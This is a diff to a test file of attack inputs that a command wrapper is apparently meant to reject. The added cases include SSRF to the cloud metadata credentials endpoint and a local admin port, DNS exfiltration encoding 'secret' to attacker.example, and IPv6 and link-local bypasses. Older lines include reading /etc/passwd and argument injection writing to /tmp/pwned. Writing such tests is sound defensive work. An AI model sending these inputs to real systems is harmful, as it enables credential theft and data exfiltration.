@@ -31,6 +31,10 @@ struct WrapperAttackTests {
         "unit-status unit=x host=evil", "ping host=-f", "ping host=127.0.0.1 count=1 flood=1", "container-logs name=-f",
         "container-logs name=--follow", "http-check url=file:///etc/passwd", "http-check url=http://x output=/tmp/pwned",
         "http-check url=http://127.0.0.1/--output=/tmp/pwned?x", "journal priority=--all",
+        // Egress and naming outside the host's lists (issue 13): metadata, SSRF to other ports and names, DNS leaks.
+        "http-check url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http-check url=http://127.0.0.1:2019/config/",
+        "http-check url=http://127.0.0.1.attacker.example/", "http-check url=https://[::1]/", "ping host=c2VjcmV0.attacker.example",
+        "ping host=169.254.169.254", "ping host=fe80::1", "container-logs name=other", "ping host=127.0.0.2 count=1",
         // Oversize numbers.
         "journal lines=100000", "journal lines=99999999999999999999", "journal lines=-5", "journal lines=0",
         "processes limit=501", "ping host=127.0.0.1 count=6", "log-tail path=STATE/logs/app.log lines=1e9",
